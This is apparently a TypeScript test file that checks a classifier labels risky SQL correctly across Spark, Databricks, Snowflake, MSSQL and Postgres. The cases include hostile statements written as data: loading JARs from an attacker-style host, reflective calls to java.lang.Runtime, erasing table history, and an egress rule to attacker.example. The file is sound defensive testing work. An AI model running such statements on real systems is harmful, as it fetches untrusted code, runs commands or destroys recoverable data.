import { expectHazards } from './read.ts';

// Code that is brought to a cluster, and calls of Java's own methods.
expectHazards(
  [
    ['ADD JAR /opt/udfs/geo.jar', ''],
    ['ADD JAR http://198.51.100.7/geo.jar', 'native-code'],
    ['ADD FILE s3://bucket/map.py', 'extension'],
    ['ADD ARCHIVE /tmp/a.zip', 'native-code'],
    ["CREATE FUNCTION f AS 'a.B' USING JAR 'http://attacker.example/b.jar'", 'native-code'],
    ["SELECT reflect('java.util.UUID', 'randomUUID')", ''],
    ["SELECT reflect('java.lang.Runtime', 'getRuntime')", 'runs-commands'],
    ["SELECT java_method('java.lang.System', 'getenv', 'HOME')", 'runs-commands'],
    ["SELECT reflect('com.acme.Names', 'tidy', n) FROM t", 'dynamic'],
    ["SELECT TRANSFORM (a) USING 'python clean.py' AS (b) FROM t", 'untrusted-language'],
  ],
  'spark',
);

// What deleted rows could be brought back from.
expectHazards(
  [
    ['VACUUM sales.orders RETAIN 168 HOURS', ''],
    ['VACUUM sales.orders', ''],
    ['VACUUM sales.orders RETAIN 0 HOURS', 'erases-history'],
    ['RESTORE TABLE sales.orders TO VERSION AS OF 3', 'replaces-table'],
  ],
  'databricks',
);
expectHazards(
  [
    ['ALTER TABLE orders SET DATA_RETENTION_TIME_IN_DAYS = 0', 'erases-history'],
    ['ALTER TABLE orders SET DATA_RETENTION_TIME_IN_DAYS = 14', ''],
    ["CREATE STAGE s STORAGE_INTEGRATION = i URL = 's3://b/x/'", 'reads-bucket'],
    ["CREATE NETWORK RULE r MODE = EGRESS TYPE = HOST_PORT VALUE_LIST = ('attacker.example')", 'network'],
    ["CREATE NETWORK RULE r MODE = INGRESS TYPE = IPV4 VALUE_LIST = ('10.0.0.0/8')", ''],
  ],
  'snowflake',
);
expectHazards([["EXEC xp_delete_file 0, N'D:\\b', N'bak', N'2030-01-01'", 'erases-history']], 'mssql');
expectHazards(
  [
    ['CREATE EXTENSION pg_trgm', 'bundled-extension'],
    ['CREATE EXTENSION plpython3u', 'extension'],
  ],
  'postgres',
);
